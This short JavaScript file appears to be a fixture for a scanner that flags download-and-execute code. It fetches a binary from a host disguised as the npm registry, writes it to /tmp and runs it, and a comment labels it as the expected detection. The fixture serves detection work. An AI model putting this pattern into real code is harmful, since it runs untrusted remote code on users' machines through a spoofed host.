// A host that merely starts like the registry's is another host.
const fs = require("fs");
const https = require("https");
const { execFileSync } = require("child_process");
function get(url, cb) {
  https.get(url, cb);
}
const url = `https://registry.npmjs.org.cdn-example.net/${process.platform}/tool`;
get(url, (res) => {
  res.pipe(fs.createWriteStream("/tmp/tool"));
  res.on("end", () => execFileSync("/tmp/tool")); // expect: download-exec
});
